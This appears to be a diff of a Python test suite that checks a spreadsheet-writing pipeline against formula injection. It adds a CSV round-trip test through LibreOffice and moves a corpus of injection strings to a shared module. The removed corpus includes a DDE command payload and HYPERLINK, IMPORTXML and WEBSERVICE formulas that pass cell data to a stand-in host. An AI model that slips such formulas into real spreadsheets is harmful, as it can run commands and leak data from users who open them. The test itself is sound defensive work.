@@ -5,6 +5,7 @@ Not in the default run: `pytest -m office`. Needs LibreOffice Calc.
 
 from __future__ import annotations
 
+import csv
 import re
 import shutil
 import subprocess
@@ -20,6 +21,7 @@ from openpyxl import Workbook, load_workbook
 from pipeline.core.model import Patch
 from pipeline.sheets.excel import ExcelSheet
 from tests.edges.test_excel import TEAM, TEXTS
+from tests.fakes.formulas import FORMULAS
 from tests.fakes.program import Studio, call
 from tests.fakes.sandbox_process import sandbox_process
 from tests.wild import slow_workbook
@@ -30,16 +32,6 @@ INSTALL = "LibreOffice is not here: apt-get install --no-install-recommends libr
 TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
 TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
-#: What a spreadsheet that takes text for a formula would work out, open, or ask the network for.
-FORMULAS = (
-    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1"),
-    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1\nand more", "{=1+1}", "=A1", "==1"),
-    '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
-    '=IMPORTXML("https://elsewhere.example/","//a")',
-    '=WEBSERVICE("https://elsewhere.example/")',
-    *("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("soffice";"a";"b")'),
-    *("1/2", "16:9", "1e5", "TRUE", "00042", "12345678901234567890", "#REF!", "2026-01-31"),
-)
 
 
 def converted(path: Path, kind: str) -> Path:
@@ -139,6 +131,26 @@ def test_a_corpus_of_formulas_in_prompts_goes_through_the_whole_program(tmp_path
         assert row[1] == (str(number * 2), "float", f"of:={number}*2")
         for text, kind, formula in row[2:]:
             assert (kind, formula) == (("string", "") if text else ("", ""))
+
+
+def test_a_corpus_of_formulas_goes_through_a_csv_file_that_libreoffice_opens(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "team.csv"
+    prompts = [*FORMULAS, "=1+1 [refuse]", "@SUM(1) [refuse]", "-1+1 [fail]"]
+    with path.open("w", newline="", encoding="utf-8") as file:
+        csv.writer(file).writerows([["prompt"], *([prompt] for prompt in prompts)])
+    with sandbox_process(task_seconds=0.1, plain_pictures="true") as sandbox:
+        ended = call("run", Studio(tmp_path, sandbox.url).config(sheet="team.csv"), "--wait")
+
+    assert ended.is_plain, ended.said
+    header, *rows = cells_in_libreoffice(path)
+    status = [text for text, _, _ in header].index("status")
+    said = [row[status][0] for row in rows[: len(prompts)]]
+    assert said.count("done") == len(FORMULAS) - 1
+    assert said.count("failed") == 3
+    ours = [cell for row in rows[: len(prompts)] for cell in row[1:]]
+    assert {formula for _, _, formula in ours} == {""}
 
 
 @pytest.fixture(scope="module")
